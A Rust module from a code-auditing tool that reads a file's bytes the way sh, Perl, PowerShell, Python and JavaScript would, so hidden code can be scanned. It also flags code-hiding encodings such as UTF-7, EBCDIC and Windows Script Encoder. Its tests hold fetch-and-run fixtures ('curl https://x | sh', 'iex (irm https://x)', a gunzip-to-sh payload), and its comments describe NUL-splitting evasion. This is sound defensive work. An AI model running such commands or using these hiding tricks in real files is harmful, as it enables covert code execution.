//! A file's bytes as text, the ways the programs that run it read them.
//!
//! An audit that reads a file otherwise than the program that runs it can
//! be shown one text while the program runs another. So the audit reads a
//! file each way a reader of it does, and scans every reading:
//!
//! - sh, dash and bash skip NUL bytes (`ec\0ho` runs `echo`), and run a
//!   UTF-16 file as the ASCII its NULs interleave; Perl reads a NUL as a
//!   blank (`curl\0https://...` is two words to it, one to a shell);
//! - PowerShell and Windows Script Host decode UTF-16 and UTF-32 by their
//!   byte order marks;
//! - Python and JavaScript end a line at a lone CR (and JavaScript at
//!   U+2028 and U+2029), sh does not.
//!
//! [`read`] returns one borrowed text for a plain UTF-8 file, the common
//! case, which costs one validation and one count; the other readings are
//! built only for files that hold NULs, a wide encoding or other line
//! ends. It also counts what is not text, from which the caller decides
//! whether a file could be read at all, and the declarations of encodings
//! that only serve to hide code (`# coding: utf-7`), which no reading
//! here undoes.

use std::borrow::Cow;
use std::sync::LazyLock;

use regex::Regex;

/// How a file's characters are encoded.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Encoding {
    /// UTF-8, or any ASCII-compatible encoding read as UTF-8.
    Utf8,
    Utf16Le,
    Utf16Be,
    Utf32Le,
    Utf32Be,
}

impl Encoding {
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::Utf8 => "UTF-8",
            Self::Utf16Le => "UTF-16LE",
            Self::Utf16Be => "UTF-16BE",
            Self::Utf32Le => "UTF-32LE",
            Self::Utf32Be => "UTF-32BE",
        }
    }
}

/// One file read as text.
#[derive(Debug)]
pub(crate) struct Reading<'a> {
    pub encoding: Encoding,
    /// Whether a byte order mark named the encoding (else it was guessed
    /// from where the NULs fall, or it is UTF-8).
    pub bom: bool,
    /// NUL bytes of a UTF-8 text, or NUL characters of a wide one (not
    /// the zero bytes of its encoding), skipped.
    pub nuls: usize,
    /// Bytes (or code units) not valid in the encoding, read as U+FFFD.
    pub invalid: usize,
    /// Characters of the first text that are no text: invalid bytes and
    /// control characters other than tab, line ends, form feed and escape.
    pub garbage: usize,
    /// Characters of the first text.
    pub chars: usize,
    /// The texts to scan. The first is what an editor shows (NULs
    /// skipped); the others are the other readers' readings, if any.
    pub texts: Vec<Cow<'a, str>>,
}

impl Reading<'_> {
    /// Returns the text an editor shows.
    pub(crate) fn text(&self) -> &str {
        &self.texts[0]
    }

    /// Returns true if and only if more than a twentieth of the text, or
    /// 256 characters or more, are no text: too much to call the file read
    /// when a program is made of it. A Latin-1 `é` or two in a script's
    /// comments is not too much; a compressed payload after a shell
    /// header is.
    pub(crate) fn is_unreadable(&self) -> bool {
        self.garbage * 20 > self.chars || self.garbage >= 256
    }

    /// Returns true if and only if more than a quarter of the text, NULs
    /// counted, is no text: a binary file, for files that are not
    /// programs.
    pub(crate) fn is_binary(&self) -> bool {
        (self.garbage + self.nuls) * 4 > self.chars + self.nuls
    }

    /// Returns true if and only if the text starts with `#!`, after a byte
    /// order mark: a program, whatever its name.
    pub(crate) fn has_shebang(&self) -> bool {
        self.text().trim_start_matches('\u{feff}').starts_with("#!")
    }
}

/// Reads `bytes` as text in every way a program that runs it would.
pub(crate) fn read(bytes: &[u8]) -> Reading<'_> {
    let (encoding, bom) = detect(bytes);
    let mut invalid = 0;
    let mut texts = Vec::new();
    let nuls;
    if encoding == Encoding::Utf8 {
        // A UTF-8 byte order mark stays in the text, where it was always
        // scanned (`bom` is empty for UTF-8).
        nuls = memchr::memchr_iter(0, bytes).count();
        if nuls == 0 {
            texts.push(lossy(Cow::Borrowed(bytes), &mut invalid));
        } else {
            // A shell's reading first: NULs skipped.
            let stripped: Vec<u8> = bytes.iter().copied().filter(|&byte| byte != 0).collect();
            texts.push(lossy(Cow::Owned(stripped), &mut invalid));
            let spaced: Vec<u8> = bytes
                .iter()
                .map(|&byte| if byte == 0 { b' ' } else { byte })
                .collect();
            texts.push(lossy(Cow::Owned(spaced), &mut 0));
        }
    } else {
        let mut decoded = decode_wide(&bytes[bom.len()..], encoding, &mut invalid);
        let wide_nuls = decoded.bytes().filter(|&byte| byte == 0).count();
        if wide_nuls > 0 {
            decoded.retain(|character| character != '\0');
        }
        texts.push(Cow::Owned(decoded));
        // sh runs the same file as bytes, its NULs skipped.
        let stripped: Vec<u8> = bytes.iter().copied().filter(|&byte| byte != 0).collect();
        nuls = wide_nuls;
        texts.push(lossy(Cow::Owned(stripped), &mut 0));
    }
    if let Some(relined) = other_line_ends(&texts[0]) {
        texts.push(Cow::Owned(relined));
    }
    let chars = texts[0].chars().count();
    let garbage = invalid + controls(&texts[0]);
    Reading {
        encoding,
        bom: !bom.is_empty() && encoding != Encoding::Utf8,
        nuls,
        invalid,
        garbage,
        chars,
        texts,
    }
}

/// Names the encoding from a byte order mark, or, for a file with NULs,
/// from where they fall: ASCII in UTF-16LE has a NUL at every odd offset.
/// Returns the encoding and the byte order mark (empty when guessed; a
/// UTF-8 mark is left in the text, where it was always scanned).
fn detect(bytes: &[u8]) -> (Encoding, &'static [u8]) {
    const MARKS: &[(&[u8], Encoding)] = &[
        // UTF-32LE first: its mark starts with UTF-16LE's.
        (&[0xff, 0xfe, 0, 0], Encoding::Utf32Le),
        (&[0, 0, 0xfe, 0xff], Encoding::Utf32Be),
        (&[0xff, 0xfe], Encoding::Utf16Le),
        (&[0xfe, 0xff], Encoding::Utf16Be),
    ];
    if let Some((mark, encoding)) = MARKS.iter().find(|(mark, _)| bytes.starts_with(mark)) {
        return (*encoding, mark);
    }
    if bytes.len() < 8 || memchr::memchr(0, bytes).is_none() {
        return (Encoding::Utf8, &[]);
    }
    let mut zeros = [0usize; 4];
    for (index, &byte) in bytes.iter().enumerate() {
        zeros[index % 4] += usize::from(byte == 0);
    }
    let quarter = bytes.len() / 4;
    let mostly = |count: usize, of: usize| count * 10 >= of * 9;
    let rarely = |count: usize, of: usize| count * 10 <= of;
    let (even, odd) = (zeros[0] + zeros[2], zeros[1] + zeros[3]);
    let half = bytes.len() / 2;
    if mostly(zeros[2], quarter) && mostly(zeros[3], quarter) && rarely(zeros[0], quarter) {
        (Encoding::Utf32Le, &[])
    } else if mostly(zeros[0], quarter) && mostly(zeros[1], quarter) && rarely(zeros[3], quarter) {
        (Encoding::Utf32Be, &[])
    } else if odd * 2 >= half && rarely(even, half) {
        (Encoding::Utf16Le, &[])
    } else if even * 2 >= half && rarely(odd, half) {
        (Encoding::Utf16Be, &[])
    } else {
        (Encoding::Utf8, &[])
    }
}

/// Decodes UTF-16 or UTF-32, each bad unit as U+FFFD, counted.
fn decode_wide(bytes: &[u8], encoding: Encoding, invalid: &mut usize) -> String {
    let mut text = String::with_capacity(bytes.len() / 2);
    match encoding {
        Encoding::Utf16Le | Encoding::Utf16Be => {
            let units = bytes.chunks_exact(2).map(|pair| {
                let pair = [pair[0], pair[1]];
                if encoding == Encoding::Utf16Le {
                    u16::from_le_bytes(pair)
                } else {
                    u16::from_be_bytes(pair)
                }
            });
            for character in char::decode_utf16(units) {
                text.push(character.unwrap_or_else(|_| {
                    *invalid += 1;
                    char::REPLACEMENT_CHARACTER
                }));
            }
            if !bytes.len().is_multiple_of(2) {
                *invalid += 1;
                text.push(char::REPLACEMENT_CHARACTER);
            }
        }
        Encoding::Utf32Le | Encoding::Utf32Be => {
            for quad in bytes.chunks_exact(4) {
                let quad = [quad[0], quad[1], quad[2], quad[3]];
                let code = if encoding == Encoding::Utf32Le {
                    u32::from_le_bytes(quad)
                } else {
                    u32::from_be_bytes(quad)
                };
                text.push(char::from_u32(code).unwrap_or_else(|| {
                    *invalid += 1;
                    char::REPLACEMENT_CHARACTER
                }));
            }
            if !bytes.len().is_multiple_of(4) {
                *invalid += 1;
                text.push(char::REPLACEMENT_CHARACTER);
            }
        }
        Encoding::Utf8 => unreachable!("UTF-8 is read by `lossy`"),
    }
    text
}

/// Reads `bytes` as UTF-8, each maximal bad sequence as U+FFFD (as
/// `String::from_utf8_lossy` does), counted; borrowed when valid.
fn lossy<'a>(bytes: Cow<'a, [u8]>, invalid: &mut usize) -> Cow<'a, str> {
    match bytes {
        Cow::Borrowed(bytes) => match std::str::from_utf8(bytes) {
            Ok(text) => Cow::Borrowed(text),
            Err(_) => Cow::Owned(replace_invalid(bytes, invalid)),
        },
        Cow::Owned(bytes) => match String::from_utf8(bytes) {
            Ok(text) => Cow::Owned(text),
            Err(error) => Cow::Owned(replace_invalid(error.as_bytes(), invalid)),
        },
    }
}

fn replace_invalid(bytes: &[u8], invalid: &mut usize) -> String {
    let mut text = String::with_capacity(bytes.len() + 16);
    for chunk in bytes.utf8_chunks() {
        text.push_str(chunk.valid());
        if !chunk.invalid().is_empty() {
            *invalid += 1;
            text.push(char::REPLACEMENT_CHARACTER);
        }
    }
    text
}

/// Counts the control characters that no text holds: C0 controls but tab,
/// line feed, vertical tab, form feed, carriage return and escape (colour
/// codes), DEL, and C1 controls.
fn controls(text: &str) -> usize {
    let bytes = text.as_bytes();
    // A count without branches, which the compiler runs many bytes at a
    // time: every file is read through here.
    let c0 = bytes
        .iter()
        .map(|&byte| {
            let is_control = (byte < 0x20
                && !matches!(byte, b'\t' | b'\n' | 0x0b | 0x0c | b'\r' | 0x1b))
                || byte == 0x7f;
            usize::from(is_control)
        })
        .sum::<usize>();
    // U+0080-U+009F are 0xC2 0x80-0x9F in UTF-8.
    let c1 = memchr::memchr_iter(0xc2, bytes)
        .filter(|&at| {
            bytes
                .get(at + 1)
                .is_some_and(|next| (0x80..=0x9f).contains(next))
        })
        .count();
    c0 + c1
}

/// Returns `text` with the line ends other readers see turned into line
/// feeds, when it has any: a lone CR (Python, JavaScript, old Mac
/// editors), U+2028 and U+2029 (JavaScript). Offsets stay as they were,
/// so the reading's findings point at the same bytes.
fn other_line_ends(text: &str) -> Option<String> {
    let bytes = text.as_bytes();
    let lone_cr = memchr::memchr_iter(b'\r', bytes).any(|at| bytes.get(at + 1) != Some(&b'\n'));
    // U+2028 and U+2029 are 0xE2 0x80 0xA8 and 0xE2 0x80 0xA9: found with
    // a byte search rather than by decoding every character.
    let separators = memchr::memchr_iter(0xe2, bytes)
        .any(|at| matches!(bytes.get(at + 1..at + 3), Some([0x80, 0xa8 | 0xa9])));
    if !lone_cr && !separators {
        return None;
    }
    let mut relined = String::with_capacity(text.len());
    let mut characters = text.chars().peekable();
    while let Some(character) = characters.next() {
        match character {
            '\r' if characters.peek() != Some(&'\n') => relined.push('\n'),
            // Three bytes each: a line feed and two spaces keep offsets.
            '\u{2028}' | '\u{2029}' => relined.push_str("\n  "),
            other => relined.push(other),
        }
    }
    Some(relined)
}

/// A declaration of a Python source encoding (PEP 263), which also
/// matches Emacs and Vim modelines, as Python's own reading does.
static CODING: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[ \t\x0c]*#.*?coding[:=][ \t]*([-\w.]+)").expect("valid coding pattern")
});

/// Encodings in which ASCII is ASCII: a file in one of them shows its
/// code to an audit that reads it as UTF-8. Names as Python normalises
/// them (lower case, `-` and spaces as `_`).
const ASCII_COMPATIBLE: &[&str] = &[
    "utf_8",
    "utf8",
    "u8",
    "utf",
    "utf_8_sig",
    "utf8_sig",
    "cp65001",
    "ascii",
    "us_ascii",
    "646",
    "latin_1",
    "latin1",
    "latin",
    "l1",
    "cp819",
    "8859",
    "gbk",
    "gb2312",
    "gb18030",
    "cp936",
    "big5",
    "big5hkscs",
    "cp950",
    "shift_jis",
    "sjis",
    "cp932",
    "ms932",
    "cp949",
    "euc_jp",
    "euc_kr",
    "euc_cn",
    "koi8_r",
    "koi8_u",
    "tis_620",
    "mac_roman",
    "macroman",
];

/// Encodings that exist in Python's list but serve in a script only to
/// hide its code from readers: UTF-7 (`+AGkAbQ-`), the escape codecs
/// (`\x69mport`), and EBCDIC code pages, in which no letter is ASCII.
const HIDING: &[&str] = &[
    "utf_7",
    "utf7",
    "u7",
    "unicode_1_1_utf_7",
    "csunicode11utf7",
    "unicode_escape",
    "raw_unicode_escape",
    "unicodeescape",
    "cp037",
    "ibm037",
    "ibm039",
    "ebcdic_cp_us",
    "ebcdic_cp_ca",
    "ebcdic_cp_wt",
    "ebcdic_cp_nl",
    "ebcdic_cp_be",
    "ebcdic_cp_ch",
    "ebcdic_cp_he",
    "csibm037",
    "cp273",
    "ibm273",
    "cp424",
    "ibm424",
    "cp500",
    "ibm500",
    "cp875",
    "cp1026",
    "ibm1026",
    "cp1140",
    "ibm1140",
];

/// What a file declares about its encoding that this reading does not
/// undo, and whether the declaration only serves to hide code.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Undecoded {
    pub what: String,
    pub hiding: bool,
}

/// Returns the encoding the text declares, when the audit's reading is not
/// the reading of the program that runs it: a Python coding line (on the
/// first two lines) naming an encoding that is not ASCII-compatible, a
/// UTF-7 byte order mark, or Windows Script Encoder output.
pub(crate) fn undecoded(text: &str) -> Option<Undecoded> {
    let text = text.trim_start_matches('\u{feff}');
    // The UTF-7 signature: `+/v` and one of `8 9 + /`.
    if text.starts_with("+/v") && text[3..].starts_with(['8', '9', '+', '/']) {
        return Some(Undecoded {
            what: "starts with the UTF-7 signature, so its readers decode text this audit reads as `+...-` runs".to_owned(),
            hiding: true,
        });
    }
    for line in text.lines().take(2) {
        let Some(captures) = CODING.captures(line) else {
            continue;
        };
        let declared = &captures[1];
        let normalised = declared.to_ascii_lowercase().replace(['-', ' '], "_");
        let compatible = ASCII_COMPATIBLE.contains(&normalised.as_str())
            || [
                "iso_8859_",
                "iso8859_",
                "cp125",
                "windows_125",
                "cp4",
                "cp8",
            ]
            .iter()
            .any(|prefix| normalised.starts_with(prefix))
                && !HIDING.contains(&normalised.as_str());
        if compatible {
            return None;
        }
        return Some(Undecoded {
            what: format!(
                "declares the source encoding `{declared}`, which Python decodes before running it and this audit does not"
            ),
            hiding: HIDING.contains(&normalised.as_str()),
        });
    }
    // Windows Script Host runs `#@~^` blocks decoded (`.vbe`, `.jse`).
    if memchr::memmem::find(text.as_bytes(), b"#@~^").is_some() {
        return Some(Undecoded {
            what: "holds a Windows Script Encoder block (`#@~^`), which Windows Script Host decodes and runs".to_owned(),
            hiding: true,
        });
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16le(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    #[test]
    fn plain_utf8_is_borrowed_and_read_once() {
        let reading = read(b"#!/bin/sh\necho hi\n");
        assert!(matches!(reading.texts[0], Cow::Borrowed(_)));
        assert_eq!(reading.texts.len(), 1);
        assert!(reading.has_shebang());
        assert_eq!((reading.garbage, reading.nuls), (0, 0));
    }

    #[test]
    fn nul_bytes_are_skipped_as_sh_does_and_blanks_as_perl_does() {
        let reading = read(b"#!/bin/sh\nec\0ho hi\ncurl\0https://x | sh\n");
        assert_eq!(reading.nuls, 2);
        assert_eq!(reading.text(), "#!/bin/sh\necho hi\ncurlhttps://x | sh\n");
        assert_eq!(
            reading.texts[1],
            "#!/bin/sh\nec ho hi\ncurl https://x | sh\n"
        );
        assert!(!reading.is_unreadable());
    }

    #[test]
    fn utf16_with_a_mark_is_decoded_and_also_read_as_sh_reads_it() {
        let mut bytes = vec![0xff, 0xfe];
        bytes.extend(utf16le("iex (irm https://x)\n# é\n"));
        let reading = read(&bytes);
        assert_eq!(reading.encoding, Encoding::Utf16Le);
        assert!(reading.bom);
        assert_eq!(reading.text(), "iex (irm https://x)\n# é\n");
        assert!(reading.texts[1].contains("iex (irm https://x)"));
        assert!(!reading.is_unreadable());
    }

    #[test]
    fn utf16_and_utf32_without_a_mark_are_recognised_by_their_nuls() {
        let bytes = utf16le("curl https://x | sh\n");
        let reading = read(&bytes);
        assert_eq!((reading.encoding, reading.bom), (Encoding::Utf16Le, false));
        assert_eq!(reading.text(), "curl https://x | sh\n");
        let be: Vec<u8> = "curl https://x | sh\n"
            .encode_utf16()
            .flat_map(u16::to_be_bytes)
            .collect();
        assert_eq!(read(&be).encoding, Encoding::Utf16Be);
        let utf32: Vec<u8> = "curl https://x | sh\n"
            .chars()
            .flat_map(|c| u32::from(c).to_le_bytes())
            .collect();
        let reading = read(&utf32);
        assert_eq!(reading.encoding, Encoding::Utf32Le);
        assert_eq!(reading.text(), "curl https://x | sh\n");
        let mut marked = vec![0, 0, 0xfe, 0xff];
        marked.extend("ok".chars().flat_map(|c| u32::from(c).to_be_bytes()));
        assert_eq!(read(&marked).text(), "ok");
    }

    #[test]
    fn binary_is_unreadable_and_latin1_accents_are_not() {
        let latin1 = read(b"#!/bin/sh\n# caf\xe9\ncurl -s http://203.0.113.7/a | sh\n");
        assert_eq!(latin1.invalid, 1);
        assert!(!latin1.is_unreadable());
        let mut payload = b"#!/bin/sh\ntail -c 300 \"$0\" | gunzip | sh\nexit\n".to_vec();
        payload.extend((0..300u32).map(|i| (i * 167 + 13) as u8));
        let payload = read(&payload);
        assert!(payload.is_unreadable(), "{payload:?}");
        assert!(read(b"\0\x01\x02binary\0").is_binary());
    }

    #[test]
    fn lone_carriage_returns_and_line_separators_get_a_reading_of_their_own() {
        let reading = read(b"print(1)\rimport os\r\nx\xe2\x80\xa8y");
        assert_eq!(reading.texts.len(), 2);
        assert_eq!(reading.texts[1], "print(1)\nimport os\r\nx\n  y");
        assert_eq!(reading.texts[1].len(), reading.texts[0].len());
    }

    #[test]
    fn encodings_that_hide_code_are_named() {
        let utf7 = undecoded("# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os\n").unwrap();
        assert!(utf7.hiding);
        assert!(
            undecoded("#!/usr/bin/env python\n# vim: set fileencoding=cp037 :\n")
                .unwrap()
                .hiding
        );
        let odd = undecoded("# coding: utf-16\n").unwrap();
        assert!(!odd.hiding);
        assert_eq!(undecoded("# -*- coding: utf-8 -*-\n"), None);
        assert_eq!(undecoded("# coding=latin-1\n"), None);
        assert_eq!(undecoded("# coding: ISO-8859-15\n"), None);
        assert_eq!(undecoded("# coding: windows-1252\n"), None);
        // Only the first two lines declare.
        assert_eq!(undecoded("a\nb\n# coding: utf-7\n"), None);
        assert!(undecoded("+/v8-\n").unwrap().hiding);
        assert!(
            undecoded("<job><script language=\"JScript.Encode\">#@~^CAAAAA==x^#~@</script>")
                .unwrap()
                .hiding
        );
    }
}
